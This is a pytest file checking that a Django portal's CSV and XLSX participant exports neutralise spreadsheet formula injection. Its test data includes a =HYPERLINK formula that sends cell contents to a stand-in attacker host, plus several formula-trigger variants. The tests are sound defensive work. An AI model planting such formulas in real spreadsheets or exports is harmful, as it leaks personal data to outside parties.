"""Exports hold personal data and are opened in spreadsheets: no cell may become a formula."""

import csv
import io

import pytest
from openpyxl import load_workbook

from portal.exports import csv_response, xlsx_response
from tests.factories import make_coordinator, make_event, make_registration

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "＝1+2",
]


def _read_csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def _read_xlsx(response):
    return load_workbook(io.BytesIO(response.content)).active


def test_csv_writes_formula_like_cells_as_text():
    response = csv_response("test", ["Navn", "Antall"], [[value, 3] for value in HOSTILE])

    rows = _read_csv(response)

    assert rows[0] == ["Navn", "Antall"]
    for value, row in zip(HOSTILE, rows[1:], strict=True):
        assert row == ["'" + value, "3"]


def test_xlsx_stores_formula_like_cells_as_strings():
    response = xlsx_response("test", ["Navn", "Antall"], [[value, 3] for value in HOSTILE])

    sheet = _read_xlsx(response)

    for n, value in enumerate(HOSTILE, start=2):
        cell = sheet.cell(row=n, column=1)
        # XML reads a stored carriage return back as a line feed.
        assert (cell.value, cell.data_type) == (value.replace("\r", "\n"), "s")
        assert sheet.cell(row=n, column=2).value == 3  # numbers stay numbers


def test_xlsx_drops_characters_xml_cannot_hold():
    sheet = _read_xlsx(xlsx_response("test", ["Navn"], [["Kari\x00\x1b Nordmann"]]))

    assert sheet["A2"].value == "Kari Nordmann"


def test_attachment_filename_is_safe_ascii():
    response = csv_response('del"ta\r\nkere', ["A"], [])

    assert response["Content-Disposition"] == 'attachment; filename="del-ta-kere.csv"'


@pytest.mark.django_db
def test_admin_participant_exports_keep_hostile_registrations_as_text(client):
    client.force_login(make_coordinator())
    event = make_event()
    make_registration(event, name=HOSTILE[0], organisation="=1+2")
    url = "/admin/events/event/"

    exports = {
        kind: client.post(url, {"action": kind, "_selected_action": [event.pk]})
        for kind in ("export_csv", "export_xlsx")
    }

    row = _read_csv(exports["export_csv"])[1]
    assert row[0] == "'" + HOSTILE[0]
    assert row[3] == "'=1+2"
    sheet = _read_xlsx(exports["export_xlsx"])
    assert (sheet["A2"].value, sheet["A2"].data_type) == (HOSTILE[0], "s")
    assert (sheet["D2"].value, sheet["D2"].data_type) == ("=1+2", "s")
